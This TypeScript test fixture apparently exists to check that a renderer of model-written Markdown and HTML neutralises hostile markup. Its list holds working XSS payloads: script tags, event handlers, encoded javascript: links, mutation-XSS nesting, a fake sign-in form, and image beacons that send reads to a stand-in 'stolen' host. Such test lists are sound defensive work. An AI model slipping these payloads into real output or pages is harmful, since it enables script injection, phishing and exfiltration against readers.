/** Where everything hostile tries to reach: nothing listens there, and nothing may ask it. */
const elsewhere = 'http://127.0.0.1:9/stolen';

const run = `window.owned=1;document.title="owned";fetch("${elsewhere}")`;
const js = `javascript:${run}`;
const data = `data:text/html,<script>${run}</script>`;

/** What a model may be talked into writing. Each gets a message of its own. */
export const hostile: readonly string[] = [
  // Scripts and handlers.
  `<script>${run}</script>`,
  `<script src="${elsewhere}.js"></script>`,
  `<SCRIPT\n>${run}</SCRIPT\n>`,
  `<scr<script>ipt>${run}</scr</script>ipt>`,
  `<img src=x onerror='${run}'>`,
  `<img src="${elsewhere}.png" srcset="${elsewhere}2.png 2x">`,
  `<svg onload='${run}'><script>${run}</script><use href="${elsewhere}.svg#a"/></svg>`,
  `<math><mtext><table><mglyph><style><img src=x onerror='${run}'>`,
  `<details open ontoggle='${run}'>x</details>`,
  `<input autofocus onfocus='${run}'>`,
  `<video poster="${elsewhere}.png" src="${elsewhere}.mp4" onerror='${run}' autoplay></video>`,
  `<p title="\n</p><script>${run}</script>">`,
  // Frames, forms and what changes the whole page.
  `<iframe src="${elsewhere}" srcdoc="<script>${run}</script>"></iframe>`,
  `<object data="${elsewhere}"></object><embed src="${elsewhere}">`,
  `<form action="${elsewhere}"><input name=password><button>Sign in</button></form>`,
  `<base href="${elsewhere}/"><link rel=stylesheet href="${elsewhere}.css"><link rel=prefetch href="${elsewhere}">`,
  `<meta http-equiv="refresh" content="0;url=${elsewhere}">`,
  `<style>*{background:url(${elsewhere})}</style>`,
  `<div style="position:fixed;inset:0;background:url(${elsewhere})">Sign in again</div>`,
  `<div id="composer" name="root">clash</div><a id="messages" name="tasks">clash</a>`,
  `<dialog open><form method=dialog>Your session ended</form></dialog>`,
  // Links.
  `[click](${js})`,
  `[click](JaVaScRiPt:${run})`,
  `[click](java\tscript:${run})`,
  `[click](&#106;avascript:${run})`,
  `[click](&#x6A&#x61&#x76&#x61script:${run})`,
  `[click](javascript&colon;${run})`,
  `[click](\u0001javascript:${run})`,
  `[click](<${data}>)`,
  '[click](vbscript:msgbox(1))',
  `[click](blob:${elsewhere})`,
  '[click](file:///etc/passwd)',
  '[click](//127.0.0.1:9/stolen)',
  '[click](/api/dev/token)',
  '[click](\\\\127.0.0.1\\stolen)',
  `[click][1]\n\n[1]: ${js} "title"`,
  `<${js}>`,
  `[a](https://example.com/ "\\" onmouseover='${run}'")`,
  `[a](https://example.com/"onmouseover="${run}")`,
  '[https://bank.example](https://evil.example)',
  // Pictures tell their server who reads what.
  `![x](${elsewhere}.png)`,
  `![x](${elsewhere}.png "t")`,
  `![x][1]\n\n[1]: ${elsewhere}.png`,
  `![x](data:image/svg+xml,<svg onload='${run}'/>)`,
  `[![x](${elsewhere}.png)](${js})`,
  // Inside other constructs.
  `| <img src=x onerror='${run}'> |\n|---|\n| [x](${js}) ![x](${elsewhere}.png) |`,
  `- [ ] <script>${run}</script>\n- [x] [x](${js})`,
  `> # <iframe src="${elsewhere}">\n> ![x](${elsewhere}.png)`,
  '```html"><script>' + run + '</script>\n<img src=x onerror=alert(1)>\n```',
  `\`<img src=x onerror='${run}'>\` **<b onclick='${run}'>x</b>**`,
  `<!-- --><script>${run}</script><!--`,
  `<![CDATA[<script>${run}</script>]]>`,
  `&lt;script&gt;${run}&lt;/script&gt; &#60;img src=x onerror=${run}&#62;`,
];
